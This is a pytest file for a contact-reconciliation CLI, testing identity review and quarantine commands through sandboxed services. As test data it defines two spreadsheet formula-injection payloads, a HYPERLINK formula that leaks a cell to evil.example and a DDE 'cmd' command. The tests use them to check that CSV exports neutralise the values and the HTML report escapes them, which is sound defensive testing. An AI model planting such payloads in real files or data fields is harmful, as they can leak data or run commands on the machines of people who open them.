"""The review loop of identity reviews and quarantined ops, through the real CLI against both sandboxes.

`recon identity list|resolve` (an email in two contacts paired and kept apart, an email changed paired, a
decision reopened, a bad file refused whole), `recon quarantine list|dismiss` (dismissed, undone), the ages of
both across runs with the store's clock, and formula-like names in identity.csv neutralised and read back
unharmed. The store's clock starts two days ago, so a run "yesterday" and the CLI's "now" differ by whole nights.
"""

from __future__ import annotations

import asyncio
import copy
import csv
import html
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from typer.testing import CliRunner

from contact_recon.cli.main import app
from contact_recon.engine.reviews import review_id
from contact_recon.report.build import rebuild_run_files
from contact_recon.sandbox.fixture import validate_fixture
from contact_recon.sandbox.generate import generate_fixture
from contact_recon.store.db import open_db
from contact_recon.store.files import IDENTITY_FILE, QUARANTINE_FILE, run_dir
from tests.support.servers import Sandboxes
from tests.support.worlds import RATE_SCALE, World, awkward_fixture, loose_policy, make_settings

ATTACK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")'
CMD = "+cmd|' /C calc'!A0"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


class Clock:
    def __init__(self, start: datetime):
        self.now = start

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock(datetime.now(UTC).replace(microsecond=0) - timedelta(days=2))


def world_for(sandboxes: Sandboxes, tmp_path: Path, fixture: dict[str, Any], edited: dict[str, list[str]],
              clock: Clock) -> Iterator[World]:
    ghl, te = sandboxes(fixture, rate_scale=RATE_SCALE)
    settings = make_settings(ghl, te, fixture, tmp_path / "data")
    with open_db(settings.data_dir / "recon.duckdb", clock=clock) as store:
        yield World(fixture, ghl, te, settings, store, policy=loose_policy(tmp_path), edited=edited)


def duplicates_fixture() -> tuple[dict[str, Any], dict[str, list[str]]]:
    """Clean people in both systems; A and B each get a second GHL contact with the same email (named like a
    formula); C is there to change its email later."""
    fixture = generate_fixture(24, seed=5, awkward=0.0)
    location = next(iter(fixture["ghl"]["locations"].values()))
    location["allowDuplicateContacts"] = True
    emails = {c["email"] for c in fixture["tinyemail"]["customers"]}
    both = [c for c in location["contacts"] if c.get("email") in emails]
    assert len(both) >= 3, "the fixture changed: too few people in both systems"
    a, b, c = both[:3]
    for original, name, suffix in ((a, ATTACK, "A"), (b, CMD, "B")):
        dup = copy.deepcopy(original)
        dup.update({"id": f"dupcontact{suffix}000000000"[:20], "firstName": name, "email": original["email"].upper()})
        dup.pop("phone", None)
        location["contacts"].append(dup)
    edited = {"a": [a["id"], "dupcontactA000000000"], "b": [b["id"], "dupcontactB000000000"], "c": [c["id"]]}
    return validate_fixture(fixture), edited


def cli(w: World, monkeypatch: pytest.MonkeyPatch, *args: str) -> Any:
    for name, value in {**w.env(), "COLUMNS": "250"}.items():
        monkeypatch.setenv(name, value)
    return CliRunner().invoke(app, list(args))


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def people_keys(w: World, run_id: str) -> set[str]:
    return set(pl.read_parquet(run_dir(w.settings.data_dir, run_id) / "state" / "people.parquet")["key"])


def write_decided(path: Path, rows: list[dict[str, str]], answers: dict[str, dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, list(rows[0]))
        writer.writeheader()
        for row in rows:
            writer.writerow({**row, **answers.get(row["review_id"], {})})
    return path


@pytest.fixture
def dup_world(sandboxes: Sandboxes, tmp_path: Path, clock: Clock) -> Iterator[World]:
    yield from world_for(sandboxes, tmp_path, *duplicates_fixture(), clock)


def test_identity_reviews_round_trip_through_the_cli(dup_world: World, clock: Clock, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    w = dup_world
    (a, a2), (b, b2), (c,) = w.edited["a"], w.edited["b"], w.edited["c"]
    first = w.reconcile()
    assert first.status == "completed", first.error
    path = run_dir(w.settings.data_dir, first.run_id) / IDENTITY_FILE
    rows = {r["contact_ids"]: r for r in csv_rows(path)}
    assert set(rows) == {" ".join(sorted([a, a2])), " ".join(sorted([b, b2]))}
    row_a = rows[" ".join(sorted([a, a2]))]
    assert row_a["kind"] == "email_shared_by_several" and row_a["nights_open"] == "0"
    assert row_a["first_seen"] == clock.now.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row_a["review_id"] == review_id("email_shared_by_several", [a, a2], row_a["email"], None)
    assert row_a["ghl_url"].startswith(f"https://app.gohighlevel.com/v2/location/{w.location}/contacts/detail/")
    assert row_a["decision"] == row_a["contact"] == row_a["note"] == ""
    # formula-like names are inert in the file a person opens, and still readable
    cells = [v for r in rows.values() for v in r.values()]
    assert not [v for v in cells if v.startswith(FORMULA)], cells
    assert f"{a2}: {ATTACK}" in row_a["ghl"] and row_a["tinyemail"]
    assert any(v.startswith("'" + CMD) or f": {CMD}" in v for v in rows[" ".join(sorted([b, b2]))].values())

    report = rebuild_run_files(w.store, w.settings.data_dir, first.run_id)[1].report.read_text(encoding="utf-8")
    assert "Identity reviews" in report and row_a["review_id"] in report
    assert html.escape(ATTACK) in report and ATTACK not in report  # shown as text, escaped

    listed = cli(w, monkeypatch, "identity", "list", "--json")
    assert listed.exit_code == 0, listed.output
    shown = json.loads(listed.output)
    assert shown["run_id"] == first.run_id
    assert {r["review_id"] for r in shown["reviews"]} == {r["review_id"] for r in rows.values()}
    assert {r["nights_open"] for r in shown["reviews"]} == {2}  # the CLI's now: two nights after the run
    table = cli(w, monkeypatch, "identity", "list")
    assert table.exit_code == 0 and row_a["review_id"] in table.output and "Traceback" not in table.output

    # a bad file names each bad line and imports nothing
    rid_a, rid_b = row_a["review_id"], rows[" ".join(sorted([b, b2]))]["review_id"]
    bad = tmp_path / "bad.csv"
    with bad.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, ["review_id", "decision", "contact", "note"])
        writer.writeheader()
        writer.writerows([{"review_id": rid_a, "decision": "pair"},  # which contact?
                          {"review_id": rid_b, "decision": "pair", "contact": c},  # not one of the review's
                          {"review_id": "idr-nope", "decision": "ignore"},
                          {"review_id": rid_b, "decision": "merge"},
                          {"review_id": rid_b, "decision": "apart", "contact": b}])
    refused = cli(w, monkeypatch, "identity", "resolve", str(bad))
    out = " ".join(refused.output.split())
    assert refused.exit_code == 1 and "Traceback" not in out, out
    for expected in ["nothing imported, 5 problem(s)", "line 2: decision 'pair' needs the contact to pair",
                     f"line 3: contact '{c}' is not one of this review's contacts", "line 4: unknown review 'idr-nope'",
                     "line 5: decision 'merge' is not one of pair, apart, ignore, reopen",
                     "line 6: a contact is only read with decision 'pair'"]:
        assert expected in out, expected
    assert w.store._frame("SELECT * FROM identity_decisions").height == 0

    # the filled-in file: A paired with its first contact, B's kept apart (notes formula-like, read back as they are)
    decided = write_decided(tmp_path / "decided.csv", csv_rows(path), {
        rid_a: {"decision": "Pair", "contact": a, "note": ATTACK}, rid_b: {"decision": "apart", "note": CMD}})
    imported = cli(w, monkeypatch, "identity", "resolve", str(decided))
    assert imported.exit_code == 0, imported.output
    assert "recorded 2 identity decision(s) (apart 1, pair 1)" in " ".join(imported.output.split())
    stored = {r["review_id"]: r for r in w.store._frame("SELECT * FROM identity_decisions").to_dicts()}
    assert (stored[rid_a]["decision"], stored[rid_a]["contact_id"], stored[rid_a]["note"]) == ("pair", a, ATTACK)
    assert (stored[rid_b]["decision"], stored[rid_b]["note"]) == ("apart", CMD)
    assert json.loads(cli(w, monkeypatch, "identity", "list", "--json").output)["reviews"] == []

    # C's email changes in GHL: after the next run, an email_changed review
    async def change() -> None:
        async with w.ghl_client(w.location) as client:
            await client.update_contact(c, {"email": "c.moved@example.com"})

    asyncio.run(change())
    clock.now += timedelta(days=1)
    second = w.reconcile()
    assert second.status == "completed", second.error
    keys = people_keys(w, second.run_id)
    assert a in keys and a2 not in keys  # A syncs (the manual link); its duplicate stays held
    assert not {b, b2} & keys  # kept apart from the email: never paired, never reviewed
    changed = csv_rows(run_dir(w.settings.data_dir, second.run_id) / IDENTITY_FILE)
    assert [(r["kind"], r["contact_ids"], r["email"], r["nights_open"]) for r in changed] == [
        ("email_changed", c, "c.moved@example.com", "0")]
    assert c not in keys

    single = cli(w, monkeypatch, "identity", "resolve", changed[0]["review_id"], "--decision", "pair",
                 "--note", "moved jobs")
    assert single.exit_code == 0, single.output
    clock.now += timedelta(minutes=5)
    third = w.reconcile()
    assert c in people_keys(w, third.run_id)  # paired with its new email: the person syncs again
    assert csv_rows(run_dir(w.settings.data_dir, third.run_id) / IDENTITY_FILE) == []

    # reopen B's decision: reviewed again at the next run, first seen on the first night
    reopened = cli(w, monkeypatch, "identity", "resolve", rid_b, "--decision", "reopen")
    assert reopened.exit_code == 0, reopened.output
    fourth = w.reconcile()
    again = csv_rows(run_dir(w.settings.data_dir, fourth.run_id) / IDENTITY_FILE)
    assert [(r["review_id"], r["nights_open"]) for r in again] == [(rid_b, "1")], again
    log = w.store._frame("SELECT review_id, reopened_at FROM identity_decisions WHERE review_id = ?", [rid_b])
    assert log["reopened_at"][0] is not None  # the undone decision is kept as a record
    unknown = cli(w, monkeypatch, "identity", "resolve", "idr-nope", "--decision", "ignore")
    assert unknown.exit_code == 1 and "unknown review" in unknown.output


@pytest.fixture
def awkward_world(sandboxes: Sandboxes, tmp_path: Path, clock: Clock) -> Iterator[World]:
    yield from world_for(sandboxes, tmp_path, *awkward_fixture(), clock)


def test_quarantine_ages_and_is_dismissed_and_restored_through_the_cli(
        awkward_world: World, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    w = awkward_world
    bad_phone = w.edited["bad_phone"][0]
    first = w.plan()
    assert first.quarantined.height > 0
    clock.now += timedelta(days=1)
    second = w.plan()
    held = pl.read_parquet(run_dir(w.settings.data_dir, second.run_id) / QUARANTINE_FILE)
    assert set(held["op_id"]) == set(second.quarantined["op_id"])
    mine = held.filter(pl.col("key") == bad_phone)
    assert mine.height > 0
    row = mine.row(0, named=True)
    assert row["first_seen"] == (clock.now - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row["nights_open"] == 1 and not row["dismissed"]
    assert row["ghl"] == "call me maybe" or row["field"] not in ("phone",)
    assert row["email"] and row["name"] and row["ghl_url"].endswith(f"/contacts/detail/{bad_phone}")
    assert row["quarantined_by"]

    listed = cli(w, monkeypatch, "quarantine", "list", "--json")
    assert listed.exit_code == 0, listed.output
    ops = {o["op_id"]: o for o in json.loads(listed.output)["ops"]}
    assert set(ops) == set(held["op_id"]) and ops[row["op_id"]]["nights_open"] == 2

    dismissed = cli(w, monkeypatch, "quarantine", "dismiss", row["op_id"], "--note", ATTACK)
    assert dismissed.exit_code == 0, dismissed.output
    after = json.loads(cli(w, monkeypatch, "quarantine", "list", "--json").output)["ops"]
    assert row["op_id"] not in {o["op_id"] for o in after} and len(after) == len(ops) - 1
    every = json.loads(cli(w, monkeypatch, "quarantine", "list", "--json", "--all").output)["ops"]
    gone = next(o for o in every if o["op_id"] == row["op_id"])
    assert gone["dismissed"] and gone["note"] == ATTACK
    table = cli(w, monkeypatch, "quarantine", "list")
    assert table.exit_code == 0 and row["op_id"] not in table.output

    report = rebuild_run_files(w.store, w.settings.data_dir, second.run_id)[1].report.read_text(encoding="utf-8")
    dismissed_part = report.split("Dismissed quarantined ops")[1]
    assert row["op_id"] in dismissed_part and html.escape(ATTACK) in dismissed_part
    assert row["ghl_url"] in report.split("Dismissed quarantined ops")[0]  # the other ops of the person stay open

    clock.now += timedelta(hours=1)
    third = w.plan()  # still quarantined (never written), shown as dismissed
    view = pl.read_parquet(run_dir(w.settings.data_dir, third.run_id) / QUARANTINE_FILE)
    assert view.filter(pl.col("op_id") == row["op_id"])["dismissed"].to_list() == [True]
    assert row["op_id"] in set(third.quarantined["op_id"])

    undone = cli(w, monkeypatch, "quarantine", "dismiss", row["op_id"], "--undo")
    assert undone.exit_code == 0, undone.output
    back = json.loads(cli(w, monkeypatch, "quarantine", "list", "--json").output)["ops"]
    assert row["op_id"] in {o["op_id"] for o in back}
    assert cli(w, monkeypatch, "quarantine", "dismiss", row["op_id"], "--undo").exit_code == 1
    unknown = cli(w, monkeypatch, "quarantine", "dismiss", "no-such-op")
    assert unknown.exit_code == 1 and "not a quarantined op" in unknown.output


@pytest.mark.parametrize("command", [["identity", "list"], ["identity", "resolve", "idr-x", "--decision", "ignore"],
                                     ["quarantine", "list", "--json"], ["quarantine", "dismiss", "op-x"]])
def test_review_commands_say_store_busy_while_a_run_holds_the_store(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]) -> None:
    from tests.e2e.test_store_busy import says_store_busy

    says_store_busy(tmp_path, monkeypatch, *command)
